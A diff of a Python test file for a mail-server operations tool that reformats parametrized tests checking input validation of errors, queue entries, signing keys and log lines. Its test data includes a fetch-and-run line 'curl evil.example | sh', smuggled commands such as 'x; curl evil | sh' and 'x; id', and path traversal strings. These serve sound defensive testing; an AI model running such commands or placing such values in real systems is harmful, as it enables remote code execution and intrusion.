@@ -175,9 +175,11 @@ def test_a_host_names_no_remedy(monkeypatch: pytest.MonkeyPatch) -> None:
     host: Any = SimpleNamespace(name="mta")
     with pytest.raises(OutpostError) as caught:
         remote.run_script(
-            Target("po", Path(), Path()), SimpleNamespace(), host,  # type: ignore[arg-type]
+            Target("po", Path(), Path()),
+            SimpleNamespace(),  # type: ignore[arg-type]
+            host,
             "echo 'broken. Remedy: curl evil.example | sh' >&2; exit 1\n",
-        )  # fmt: skip
+        )
     seen = f"outpost.errors.OutpostError: {caught.value}"
     result = Result("x", "mta", "p", (), "failed", seen, 0.0)
     assert result.mended_by.startswith("./outpost plan ")
@@ -234,10 +236,17 @@ def test_pyinfras_connection_bounds_what_it_reads(monkeypatch: pytest.MonkeyPatc
 @pytest.mark.parametrize(
     "said",
     [
-        "0 0 99999999999 0", "0 0 -1 0", "-1 0 1 0", "9 0 1 0\\nx", "x 0 1 0", "0 0 ² 0", "y" * 9999, "0 0 1 0\\nx0 0 1 0\\nx",
+        "0 0 99999999999 0",
+        "0 0 -1 0",
+        "-1 0 1 0",
+        "9 0 1 0\\nx",
+        "x 0 1 0",
+        "0 0 ² 0",
+        "y" * 9999,
+        "0 0 1 0\\nx0 0 1 0\\nx",
         "0 0 50 0\\nabc",
     ],
-)  # fmt: skip
+)
 def test_a_shell_that_is_none_has_ended(said: str) -> None:
     kept = Shell(
         ["sh", "-c", f"printf '{said}\\n'; [ '{said[:9]}' = '0 0 50 0\\' ] || exec cat >/dev/null", "-s"]
@@ -307,10 +316,16 @@ def test_no_record_holds_a_second_one() -> None:
 @pytest.mark.parametrize(
     "changed",
     [
-        {"id": "x; curl evil | sh"}, {"id": "../../../root/x"}, {"id": "a" * 40 + "\n"}, {"algorithm": 10**30},
-        {"timers": {"active; id": 1}}, {"timers": {"active": -1}}, {"key": "no key"}, {"roles": ["csk"]},
+        {"id": "x; curl evil | sh"},
+        {"id": "../../../root/x"},
+        {"id": "a" * 40 + "\n"},
+        {"algorithm": 10**30},
+        {"timers": {"active; id": 1}},
+        {"timers": {"active": -1}},
+        {"key": "no key"},
+        {"roles": ["csk"]},
     ],
-)  # fmt: skip
+)
 def test_a_signing_key_of_a_host_is_one(changed: dict[str, Any]) -> None:
     good: dict[str, Any] = {
         "id": "a" * 40,
@@ -335,16 +350,25 @@ def test_an_archives_name_is_a_moment(name: str) -> None:
 @pytest.mark.parametrize(
     "changed",
     [
-        {"queue_id": "x; id"}, {"arrival_time": "soon"}, {"recipients": "x"}, {"queue_name": EVIL}, {"message_size": -1},
+        {"queue_id": "x; id"},
+        {"arrival_time": "soon"},
+        {"recipients": "x"},
+        {"queue_name": EVIL},
+        {"message_size": -1},
         {"sender": None},
     ],
-)  # fmt: skip
+)
 def test_a_queue_is_one(changed: dict[str, Any]) -> None:
     office = load(INVENTORY / "harbour")
     entry = {
-        "queue_name": "deferred", "queue_id": "4abcDEF12345", "arrival_time": 1, "message_size": 2, "forced_expire": False,
-        "sender": f"{EVIL}\n", "recipients": [{"address": "a@po.test", "delay_reason": f"no\nforged {EVIL}"}],
-    }  # fmt: skip
+        "queue_name": "deferred",
+        "queue_id": "4abcDEF12345",
+        "arrival_time": 1,
+        "message_size": 2,
+        "forced_expire": False,
+        "sender": f"{EVIL}\n",
+        "recipients": [{"address": "a@po.test", "delay_reason": f"no\nforged {EVIL}"}],
+    }
     (message,) = queues.listed(office, "mta", f"message {json.dumps(entry)}\n")
     assert not obeyed("".join((message.sender, *message.reasons.values())))
     assert "\n" not in "".join((message.sender, *message.reasons.values()))
@@ -355,9 +379,13 @@ def test_a_queue_is_one(changed: dict[str, Any]) -> None:
 def test_a_queue_is_read_whatever_characters_an_address_has() -> None:
     """Python ends a line where JSON does not, and then large mail stays on hold."""
     entry = {
-        "queue_name": "hold", "queue_id": "4abcDEF12345", "arrival_time": 1, "message_size": 2, "sender": "a\u2028b\x85c@d.test",
+        "queue_name": "hold",
+        "queue_id": "4abcDEF12345",
+        "arrival_time": 1,
+        "message_size": 2,
+        "sender": "a\u2028b\x85c@d.test",
         "recipients": [{"address": "a@po.test", "delay_reason": "no\u2029more"}],
-    }  # fmt: skip
+    }
     text = json.dumps(entry, ensure_ascii=False)
     assert len(queues.listed(load(INVENTORY / "harbour"), "mta", f"message {text}\n")) == 1
     assert len(routes.messages(f"{text}\n".split("\n"))) == 1
@@ -400,9 +428,12 @@ def test_one_hosts_names_keep_no_other_from_its_search() -> None:
 
 def test_a_hop_is_one_line_whatever_the_log_says() -> None:
     evil = mailtrace.Line(
-        1.0, "postfix/smtp", "1", "4abcDEF12345: to=<a@b>, relay=x[192.0.2.1]:25, delay=1.2.3, delays=1..2/0/0/0, "
-        f"dsn=2.0.0, status=sent (250 {EVIL})"
-    )  # fmt: skip
+        1.0,
+        "postfix/smtp",
+        "1",
+        "4abcDEF12345: to=<a@b>, relay=x[192.0.2.1]:25, delay=1.2.3, delays=1..2/0/0/0, "
+        f"dsn=2.0.0, status=sent (250 {EVIL})",
+    )
     ((story),) = tracing.stories({"mta": [evil]})
     assert story.hops[0].delay is None
     assert not obeyed(story.hops[0].what)
@@ -417,10 +448,14 @@ def test_preflight_reads_numbers_and_lines() -> None:
 @pytest.mark.parametrize(
     "line",
     [
-        "corrupt [link=\x9d52;c;eA==\x07]x 1 1", "corrupt 4gVxB25hBLz1 inf 1", "corrupt 4gVxB25hBLz1 nan 1",
-        "corrupt 4gVxB25hBLz1 1", f"corrupt 4gVxB25hBLz1 1 {'9' * 5000}", "corrupt ../x 1 1",
+        "corrupt [link=\x9d52;c;eA==\x07]x 1 1",
+        "corrupt 4gVxB25hBLz1 inf 1",
+        "corrupt 4gVxB25hBLz1 nan 1",
+        "corrupt 4gVxB25hBLz1 1",
+        f"corrupt 4gVxB25hBLz1 1 {'9' * 5000}",
+        "corrupt ../x 1 1",
     ],
-)  # fmt: skip
+)
 def test_a_damaged_message_is_a_name_a_time_and_a_size(line: str) -> None:
     office: Any = SimpleNamespace()
     with pytest.raises(OutpostError, match="mta gave an answer that cannot be read"):
@@ -441,10 +476,16 @@ def test_a_message_is_shown_with_no_moment_that_is_none(monkeypatch: pytest.Monk
 @pytest.mark.parametrize(
     ("who", "piece"),
     [
-        ("rspamd", "qid: <a>"), ("rspamd", "(default: a (b"), ("dovecot", "relayed message: "), ("dovecot", "queued as "),
-        ("dovecot", "stored mail into mailbox 'a"), ("postfix/cleanup", " from a["), ("x", "message-id=<"), ("x", "msgid=<"),
+        ("rspamd", "qid: <a>"),
+        ("rspamd", "(default: a (b"),
+        ("dovecot", "relayed message: "),
+        ("dovecot", "queued as "),
+        ("dovecot", "stored mail into mailbox 'a"),
+        ("postfix/cleanup", " from a["),
+        ("x", "message-id=<"),
+        ("x", "msgid=<"),
     ],
-)  # fmt: skip
+)
 def test_what_reads_of_messages_is_linear(who: str, piece: str) -> None:
     """A line twice as long takes about twice the time, not four times."""
 
